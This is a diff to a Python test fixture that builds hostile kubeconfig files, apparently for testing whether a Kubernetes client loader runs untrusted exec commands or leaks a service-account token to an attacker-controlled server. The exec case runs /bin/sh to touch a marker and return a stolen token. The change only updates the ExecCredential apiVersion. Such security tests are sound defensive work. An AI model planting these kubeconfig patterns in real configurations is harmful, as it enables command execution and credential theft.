@@ -170,11 +170,12 @@ def hostile(kind: str, attacker: RecordingServer, workdir: Path) -> dict[str, An
     secret_file = workdir / "serviceaccount-token"
     secret_file.write_text(STOLEN)
     marker = workdir / "marker"
-    exec_output = json.dumps({"apiVersion": "client.authentication.k8s.io/v1",
+    # v1beta1: the exec API version lightkube implements, so the old loader really ran it.
+    exec_output = json.dumps({"apiVersion": "client.authentication.k8s.io/v1beta1",
                               "kind": "ExecCredential", "status": {"token": STOLEN}})
     if kind == "exec":
         return kubeconfig(attacker.url, {"exec": {
-            "apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh",
+            "apiVersion": "client.authentication.k8s.io/v1beta1", "command": "/bin/sh",
             "args": ["-c", f"touch {marker}; echo '{exec_output}'"]}})
     if kind == "tokenFile":
         return kubeconfig(attacker.url, {"tokenFile": str(secret_file)})
